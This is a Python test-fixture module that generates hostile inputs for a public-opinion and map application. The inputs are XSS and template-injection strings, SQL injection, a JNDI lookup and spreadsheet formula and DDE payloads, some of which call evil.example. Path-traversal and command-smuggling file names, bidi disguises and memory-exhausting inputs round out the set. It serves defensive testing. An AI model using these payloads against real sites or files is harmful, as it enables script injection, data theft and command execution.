"""Texts, tables, names and coordinates that mean harm."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.support.hostile.entries import (
    CRASH,
    DISGUISE,
    FORMULA,
    GARBAGE,
    MEMORY,
    PATH,
    SCRIPT,
    Hostile,
    a_file,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

#: What people have tried to get a page to run; each is an opinion like any other.
XSS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=javascript:alert(1)>plan</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example/a.css'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=secret autofocus>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{0.__class__.__mro__}",
    "%(text)s %s %n {text}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE opinions; --",
    "' OR '1'='1",
    "[click](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "<https://evil.example/><script>",
    "*/alert(1)/*",
    "]]>]]>",
    "onerror=alert;throw 1",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>#x",
)  # fmt: skip


def texts() -> Iterator[Hostile]:
    """Texts of an opinion."""
    for number, text in enumerate(XSS):
        yield Hostile(f"text/page-{number}", "text", lambda text=text: text, SCRIPT)  # type: ignore[misc]
    odd = {
        "nul": "more\x00trees", "control": "".join(map(chr, range(32))), "escape": "\x1b[31mred\x1b[0m",
        "delete": "a\x7fb",
        "high-half": "tree \ud83c", "low-half": "\udf33 tree", "halves-swapped": "\udf33\ud83c",
        "non-characters": "\ufffe\uffff",
        "marks": "\u0301" * 5_000, "zalgo": "t" + "\u0335\u0361\u0489" * 300 + "ree",
        "joiners": "\u200d" * 5_000, "wide": "\ufdfa" * 1_000,
        "private": "\ue000\U000f0000", "tags": "".join(chr(0xE0000 + ord(sign)) for sign in "hidden words"),
        "line-ends": "a\r\nb\rc\u2028d\u2029e\x85f\x0bg", "blank": " \u3000\u00a0\u200b\n\t",
        "mark": "\ufefftrees",
        "not-composed": "cafe\u0301 \u304b\u3099", "hangul": "\u1112\u1161\u11ab",
        "mojibake": "ç»¿åœ°å¤ªå°‘", "replacement": "\ufffd\ufffd",
    }  # fmt: skip
    for name, text in odd.items():
        yield Hostile(f"text/{name}", "text", lambda text=text: text, CRASH)  # type: ignore[misc]
    turning = {
        "override": "\u202egnp.exe", "embedding": "\u202b\u202b\u202bopen", "isolate": "\u2067never closed",
        "closing": "\u202c\u2069\u2069 only",
        "source": "if (admin\u202e\u2066) {\u2069\u2066 // check", "lines": "a\u202e\nb\u2067\nc",
        "arabic": "\u200fشارع\u200e (12)",
        "deep": "\u202a" * 200 + "x",
    }  # fmt: skip
    for name, text in turning.items():
        yield Hostile(f"text/turning-{name}", "text", lambda text=text: text, DISGUISE)  # type: ignore[misc]
    for number, (opened, shut) in enumerate(
        (("\u202b", "\u2069"), ("\u2067", "\u202c"), ("\u2067", "\u2069"))
    ):
        flood = (opened, shut)
        yield Hostile(
            f"text/turning-flood-{number}",
            "text",
            lambda flood=flood: flood[0] * 99_000 + flood[1] * 99_000,
            MEMORY,
        )  # type: ignore[misc]
    yield Hostile("text/accents", "text", lambda: "a" + "\u0301\u0323" * 99_000, MEMORY)
    yield Hostile("text/long-line", "text", lambda: "树" * 199_999, MEMORY)
    yield Hostile("text/million-signs", "text", lambda: "a" * 1_000_000, MEMORY, "text.long")
    yield Hostile("text/million-lines", "text", lambda: "\n" * 1_000_000, MEMORY, "text.long")
    yield Hostile("text/brackets", "text", lambda: "<" * 199_000, MEMORY)


#: Cells that a spreadsheet runs.
CELLS = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\t=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "'=1+1", "-1+1", "+A1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip


def tables() -> Iterator[Hostile]:
    """CSV files."""
    for number, cell in enumerate(CELLS):
        quoted = '"' + cell.replace('"', '""') + '"'
        yield a_file(f"csv-{number}", f"id,words\r\n1,{quoted}\r\n".encode(), "list.csv", FORMULA)
        yield a_file(
            f"csv-bare-{number}", f"words;more\n{cell.replace(';', ' ')};1\n".encode(), "list.csv", FORMULA
        )
    yield a_file("csv-first", b"=1+1", "list.csv", FORMULA)
    yield a_file("csv-carriage-return", b"a\r=1+1\rb", "list.csv", FORMULA)
    yield a_file("csv-other-delimiter", b"a,b,c\nx;=1+1;y,2,3\n", "list.csv", FORMULA)
    yield a_file("csv-utf-16", "id\twords\n1\t=1+1\n".encode("utf-16"), "list.tsv", FORMULA)
    yield a_file("csv-gb18030", "编号,意见\n1,=1+绿地\n".encode("gb18030"), "list.csv", FORMULA)
    yield a_file("csv-open-quotation", b'a,"=1+1', "list.csv", FORMULA)
    yield a_file("csv-wide", b"," * 1_000_000, "list.csv", MEMORY)
    yield a_file("csv-spaces", lambda: b"x,-" + b" " * 4_000_000 + b"x", "list.csv", MEMORY)
    yield a_file("csv-figures", lambda: b"x,-" + b"1" * 4_000_000 + b"x", "list.csv", MEMORY)
    yield a_file("csv-signs", lambda: b",-" * 2_000_000, "list.csv", MEMORY)
    for coding in ("iso-2022-jp", "hz"):
        turned = "绿地".encode("hz") if coding == "hz" else "緑地".encode(coding)
        code = "" if coding == "hz" else "file.unknown"
        yield a_file(f"text-{coding}", turned + b"<script>alert(1)</script>", "m.txt", SCRIPT, code)
    for coding in ("utf-8", "utf-16", "gb18030", "cp932"):
        words = "縁 <script>alert(1)</script>".encode(coding)
        yield a_file(f"text-script-{coding}", words, "m.txt", SCRIPT)
    yield a_file("csv-numbers", b"x,y\n-3.5,+12\n-1.2e3,+5%\n", "list.csv", FORMULA)
    yield a_file("text-too-large", b"a" * 5_000_001, "list.txt", MEMORY, "text.large")
    yield a_file("text-one-line", b"a" * 4_999_999, "line.txt", MEMORY)
    yield a_file("text-mojibake", "绿地太少".encode("gb18030").decode("latin-1").encode(), "m.txt", GARBAGE)
    yield a_file(
        "text-mixed",
        "绿地".encode() + "绿地".encode("gb18030") + "緑地".encode("cp932") + b"\xff",
        "m.txt",
        GARBAGE,
        "file.unknown",
    )


#: Names that mean another file, another kind or another place.
NAMES = (
    "cv\u202egpj.exe", "plan\u202efdp.js", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    "/etc/cron.d/a", "C:\\autoexec.bat", "C:plan.txt",
    "\\\\evil\\share\\a.txt", "file:///etc/passwd", "a/../b.txt", "....//....//a", "%2e%2e%2fa.txt",
    "..%c0%afa.txt", ".htaccess", ".", "..", "",
    " ", "...", "-rf", "--help.txt", "~", "~root", "$HOME.txt", "`id`.txt", "$(id).txt", "a;id.txt",
    "a|id.txt", "a&b.txt", "con.txt", "NUL", "aux.jpg",
    "COM1.txt", "lpt9", "COM¹.txt", "conin$", "a:b.txt", "plan.txt::$DATA", "a.txt.", "a.txt ",
    "a\x00.jpg.exe", "a\nb.txt", "a\r\nSet-Cookie: x=1",
    'a".txt', "a'.txt", "<script>alert(1)</script>.txt", '"><img src=x onerror=alert(1)>.png', "a\u200b.txt",
    "a\u2028b.txt", "\ufeffa.txt", "a\ud800b.txt",
    "\udfff", "a．exe", "plan.php.txt", "plan.exe.jpg", "plan.tar.gz", "plan.pdf.html.txt",
    "photo.jpg.svg.txt", "=cmd|'/C calc'!A0.txt", "@SUM(1).txt",
    "+1.txt", "树" * 400 + ".txt", "a" * 5_000, "a." * 2_000, "\u0301" * 500 + ".txt", "\U0001f3fd" * 300,
    "🌳.jpg", "意见（附图）.txt", "a\u0000\u0000",
    "\u202e\u202e\u202e", "*?.txt", "a\tb.txt", "{{7*7}}.txt", "%s%n.txt", "desktop.ini", "Thumbs.db",
    "index.html.txt", "a" * 95 + ".é.txt",
)  # fmt: skip


def names() -> Iterator[Hostile]:
    """A harmless text under every name."""
    for number, name in enumerate(NAMES):
        code = "file.script" if name.rstrip(" .").lower().endswith((".exe", ".js", ".bat")) else ""
        yield a_file(f"name-{number}", b"More trees, please.\n", name, PATH, code)


def geojson_files() -> Iterator[Hostile]:
    """GeoJSON files."""
    point = '{"type": "Point", "coordinates": [%s]}'
    wrong = {
        "nan": point % "NaN, 1", "infinity": point % "Infinity, 1", "minus-infinity": point % "1, -Infinity",
        "huge": point % "1e999, 1",
        "digits": point % ("9" * 5_000 + ", 1"), "half": '{"type": "Point", "coord',
        "comma": '{"type": "Point",}', "two": '{"type": "Point"} {}',
    }  # fmt: skip
    for name, text in wrong.items():
        yield a_file(f"geojson-{name}", text.encode(), "a.geojson", CRASH, "json.broken")
    yield a_file(
        "geojson-deep", lambda: b'{"type":"Feature","a":' + b"[" * 100_000, "a.geojson", MEMORY, "json.deep"
    )
    yield a_file("geojson-deep-objects", lambda: b'{"a":' * 100_000, "a.geojson", MEMORY, "json.deep")
    yield a_file("geojson-list", b"[1, 2]", "a.geojson", CRASH, "geojson.kind")
    yield a_file("geojson-topology", b'{"type": "Topology"}', "a.json", CRASH, "geojson.kind")
    yield a_file("geojson-page", b'{"type": "<script>"}', "a.json", SCRIPT, "geojson.kind")
    yield a_file(
        "geojson-brackets",
        lambda: b'{"type":"Feature","a":[' + b"[]," * 500_000 + b"[]]}",
        "a.geojson",
        MEMORY,
        "json.large",
    )
    yield a_file("geojson-million", million_vertices, "a.geojson", MEMORY, "text.large")
    properties = json.dumps(
        {"type": "Feature", "geometry": None, "properties": {"name": "<script>alert(1)</script>"}}
    )
    yield a_file("geojson-script", properties.encode(), "a.geojson", SCRIPT)


def million_vertices() -> bytes:
    """A line with 10^6 vertices."""
    pairs = ",".join(f"[116.{n % 9_999:04d},39.9]" for n in range(1_000_000))
    return f'{{"type":"LineString","coordinates":[{pairs}]}}'.encode()


#: What people type where a place is asked for.
PLACES = (
    "", " ", "\x00", "\ud800", "\u202e116.4,39.9", "NaN, NaN", "Infinity, 1", "1e308 1e308",
    "9" * 12 + ".0 " + "9" * 12, "-" * 200, "0,0", "90,180",
    "-90 -180", "91, 181", "999999999999,999999999999", "1/0, 1", "N N E E", "N39 E116 S39 W116",
    "39°°54 116°", "'\"'\"", "°,°", "39.9,116.4; DROP TABLE",
    "39.9,116.4<script>", "<script>alert(1)</script>", "../../etc/passwd", "%", "_", "*", ".*",
    "(a+)+$" + "a" * 60, "[" * 200, "\\", "' OR 1=1 --", "٣٩٫٩، ١١٦٫٤",
    "３９．９，１１６．４", "一百一十六度，三十九度", "39.9\n116.4", "39.9\t116.4", "\u0301" * 250,
    "ﷺ" * 250, "a" * 300,
    "0x27, 0x74", "39.9,116.4,50,1", "+39.9 +116.4", "1 " * 150,
    "geo:39.9,116.4?q=<script>", "{{7*7}}", "${7*7}", "😀" * 100, "\u200b\u200b", "N" * 300, "1°1'1\"" * 40,
)  # fmt: skip


def places() -> Iterator[Hostile]:
    """Texts about a place."""
    for number, text in enumerate(PLACES):
        yield Hostile(f"place/{number}", "place", lambda text=text: text, CRASH)  # type: ignore[misc]
    yield Hostile("place/long", "place", lambda: "a" * 1_000_000, MEMORY, "text.line")
